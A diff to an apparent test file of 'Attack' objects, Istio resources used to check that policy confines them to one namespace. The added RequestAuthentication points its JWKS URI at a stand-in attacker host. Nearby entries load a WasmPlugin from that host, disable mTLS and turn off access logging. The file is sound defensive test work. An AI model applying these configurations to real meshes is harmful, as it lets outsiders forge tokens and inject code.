@@ -362,6 +362,11 @@ const objects: Attack[] = [
   onlyElsewhere("istio-objects", "networking.istio.io/v1alpha3", "EnvoyFilter", { configPatches: [] }),
   onlyElsewhere("istio-objects", "security.istio.io/v1", "AuthorizationPolicy", { rules: [{}] }),
   onlyElsewhere("istio-objects", "security.istio.io/v1", "PeerAuthentication", { mtls: { mode: "DISABLE" } }),
+  onlyElsewhere("istio-objects", "security.istio.io/v1", "RequestAuthentication", {
+    jwtRules: [{ issuer: "evil.example", jwksUri: "http://evil.example/data" }],
+  }),
+  onlyElsewhere("istio-objects", "networking.istio.io/v1", "WorkloadGroup", { template: {} }),
+  onlyElsewhere("istio-objects", "networking.istio.io/v1beta1", "ProxyConfig", { concurrency: 1 }),
   onlyElsewhere("istio-objects", "telemetry.istio.io/v1", "Telemetry", { accessLogging: [{ disabled: true }] }),
   onlyElsewhere("istio-objects", "extensions.istio.io/v1alpha1", "WasmPlugin", { url: "oci://evil.example/a" }),
   {
